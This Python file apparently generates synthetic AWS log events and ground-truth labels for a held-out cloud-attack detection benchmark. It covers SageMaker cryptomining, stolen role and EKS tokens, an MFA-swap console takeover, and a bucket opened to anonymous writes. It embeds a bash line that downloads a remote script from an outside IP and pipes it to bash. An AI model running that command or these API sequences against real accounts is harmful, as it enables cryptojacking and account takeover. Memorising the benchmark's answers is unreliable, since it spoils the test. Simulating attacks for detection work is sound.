"""Attacks through services: SageMaker, a notebook's role, the console, a public bucket, an
EKS service-account token; each after a public incident report."""

from __future__ import annotations

import base64
import datetime as dt
import random
from typing import Any

from benchmarks.heldout6._attack_run import KALI_BOTO, OUTSIDE_BOTO, WIN_CHROME, Run, Truth, row
from benchmarks.heldout6._net import NETS
from benchmarks.heldout6._org import IRB, PUBLIC, Org, Person
from benchmarks.heldout6._records import Who, key_id
from benchmarks.heldout6._s3 import console_login, data_event

MINER = "#!/bin/bash\nnohup bash -c 'curl -s http://45.76.12.9/x.sh | bash' >/dev/null 2>&1 &\n"


def sagemaker_mining(org: Org, day: int, p: Person, exec_role: Who) -> Truth:
    """A2: SageMaker notebooks of GPU types with an OnStart lifecycle script that mines."""
    run = Run(org, p.who, "tencent", KALI_BOTO, org.at(day, 2.3))
    run.steps(
        [
            ("sts", "GetCallerIdentity", None, None),
            ("iam", "ListRoles", None, None),
            ("sagemaker", "ListNotebookInstances", None, None),
        ]
    )
    script = base64.b64encode(MINER.encode()).decode()
    for region in ("us-east-1", "us-west-2", "eu-west-1"):
        run.step(
            "sagemaker",
            "CreateNotebookInstanceLifecycleConfig",
            {
                "notebookInstanceLifecycleConfigName": "jupyter-ext",
                "onStart": [{"content": script}],
            },
            region=region,
        )
        for size in ("ml.p3.8xlarge", "ml.g5.12xlarge"):
            error = (
                "ResourceLimitExceeded"
                if size == "ml.p3.8xlarge" and region != "us-east-1"
                else None
            )
            run.step(
                "sagemaker",
                "CreateNotebookInstance",
                {
                    "notebookInstanceName": f"jupyter-{org.rng.randrange(1000)}",
                    "instanceType": size,
                    "roleArn": exec_role.arn,
                    "lifecycleConfigName": "jupyter-ext",
                    "directInternetAccess": "Enabled",
                },
                error,
                region=region,
                read_only=False,
            )
    return [
        run.truth("A2", "SageMaker notebooks for crypto-mining with a lifecycle script", "high")
    ]


def notebook_outside(org: Org, day: int, stolen: tuple[Who, str], hour: float) -> Truth:
    """A3: a notebook's execution-role credentials (taken by a malicious Jupyter extension)
    used from a VPS outside AWS while the notebook runs."""
    run = Run(org, stolen[0], "contabo", OUTSIDE_BOTO, org.at(day, hour))
    run.steps(
        [
            ("sts", "GetCallerIdentity", None, None),
            ("s3", "ListBuckets", None, None),
            ("secretsmanager", "ListSecrets", None, "AccessDeniedException"),
            ("iam", "ListAttachedRolePolicies", {"roleName": stolen[0].name}, "AccessDenied"),
        ]
    )
    run.get(PUBLIC, int(20 * org.scale) + 5, 20)
    for _ in range(3):
        run.t += dt.timedelta(seconds=30)
        run.ids.append(
            data_event(
                org, run.t, run.who, "GetObject", IRB, run.ips[0], run.agent, error="AccessDenied"
            )["eventID"]
        )
    return [run.truth("A3", "a notebook's execution-role credentials used outside AWS", "medium")]


def console_takeover(org: Org, day: int, p: Person, other: Person) -> Truth:
    """A4: a phished password and relayed MFA code (AiTM); the attacker swaps the MFA device,
    resets a colleague's password and reads the restricted data."""
    t = org.at(day, 15.0)
    net = NETS["vivo"].address(random.Random(f"{org.seed}:vivo"))
    login = console_login(org, t, p.who, net, WIN_CHROME, mfa=True)
    who = p.who.with_key(key_id(org.rng, "ASIA"), t, mfa=True, console=True)
    run = Run(org, who, "vivo", WIN_CHROME, t)
    run.ips = [net]
    serial = f"arn:aws:iam::{p.who.account}:mfa/{p.name}"
    run.steps(
        [
            ("iam", "ListMFADevices", {"userName": p.name}, None),
            ("iam", "DeactivateMFADevice", {"userName": p.name, "serialNumber": serial}, None),
            ("iam", "DeleteVirtualMFADevice", {"serialNumber": serial}, None),
            ("iam", "CreateVirtualMFADevice", {"virtualMFADeviceName": f"{p.name}-phone"}, None),
            (
                "iam",
                "EnableMFADevice",
                {"userName": p.name, "serialNumber": f"{serial}-phone"},
                None,
            ),
            (
                "iam",
                "UpdateLoginProfile",
                {"userName": other.name, "passwordResetRequired": False},
                None,
            ),
            ("s3", "ListBuckets", None, None),
            ("s3", "GetBucketPolicy", {"bucketName": IRB}, None),
        ],
        gap=40,
    )
    run.get(IRB, int(30 * org.scale) + 5, 15)
    out = run.truth("A4", "console takeover after a phished password: MFA swapped", "high")
    return [out, row("A4", out["name"], t, run.t, "high", event_ids=login["eventID"])]


def public_write(org: Org, day: int, p: Person) -> Truth:
    """A5: the public dataset bucket opened to anonymous writes (policy and ACL), then used by
    strangers to host files."""
    run = Run(org, p.who, "ovh", "S3 Browser/11.5.7 (https://s3browser.com)", org.at(day, 3.0))
    policy = (
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":["s3:GetObject","s3:PutObject"],'
        f'"Resource":"arn:aws:s3:::{PUBLIC}/*"}}]}}'
    )
    run.steps(
        [
            ("s3", "ListBuckets", None, None),
            ("s3", "GetBucketPolicy", {"bucketName": PUBLIC}, None),
            ("s3", "GetBucketAcl", {"bucketName": PUBLIC, "acl": ""}, None),
            (
                "s3",
                "PutBucketPolicy",
                {"bucketName": PUBLIC, "bucketPolicy": policy, "policy": ""},
                None,
            ),
            (
                "s3",
                "PutBucketAcl",
                {
                    "bucketName": PUBLIC,
                    "acl": "",
                    "x-amz-grant-write": "uri=http://acs.amazonaws.com/groups/global/AllUsers",
                },
                None,
            ),
        ]
    )
    anon = Who("anonymous", "ANONYMOUS_PRINCIPAL")
    pool = random.Random(f"{org.seed}:a5")
    ids = []
    for _ in range(int(25 * org.scale) + 5):
        run.t += dt.timedelta(seconds=org.rng.uniform(30, 400))
        ip = NETS[pool.choice(("ovh", "vivo", "tencent"))].address(pool)
        ids.append(
            data_event(
                org,
                run.t,
                anon,
                "PutObject",
                PUBLIC,
                ip,
                "curl/7.88.1",
                key=f"share/{pool.randrange(10**6)}.rar",
            )["eventID"]
        )
    out = [run.truth("A5", "the public dataset bucket opened to anonymous writes", "high")]
    out.append(
        row(
            "A5",
            out[0]["name"],
            run.start,
            run.t + dt.timedelta(minutes=1),
            "high",
            event_ids=" ".join(ids),
        )
    )
    return out


def stolen_pod_token(org: Org, day: int, cluster: Any, sa: str, target: Who) -> Truth:
    """A10: a pod's projected service-account token (read from a compromised container) used
    from outside the cluster to obtain the role's credentials."""
    from benchmarks.heldout6._workloads import web_identity

    t = org.at(day, 4.0)
    ip = NETS["chinanet"].address(random.Random(f"{org.seed}:a10"))
    agent = (
        "aws-cli/2.15.0 Python/3.11.6 Linux/6.2.0-39-generic exe/x86_64.ubuntu.22 prompt/off "
        "command/sts.assume-role-with-web-identity"
    )
    who, exchange = web_identity(org, t, cluster, sa, target, ip, agent)
    run = Run(org, who, "chinanet", OUTSIDE_BOTO, t)
    run.ips = [ip]
    run.steps(
        [
            ("sts", "GetCallerIdentity", None, None),
            ("s3", "ListBuckets", None, None),
            ("secretsmanager", "ListSecrets", None, None),
        ]
        + [
            ("secretsmanager", "GetSecretValue", {"secretId": f"genomics/{n}"}, None)
            for n in ("db", "globus", "github")
        ]
        + [("ec2", "DescribeInstances", None, None)],
        gap=60,
    )
    out = run.truth("A10", "a stolen EKS service-account token used outside the cluster", "medium")
    return [out, row("A10", out["name"], t, run.t, "medium", event_ids=exchange["eventID"])]
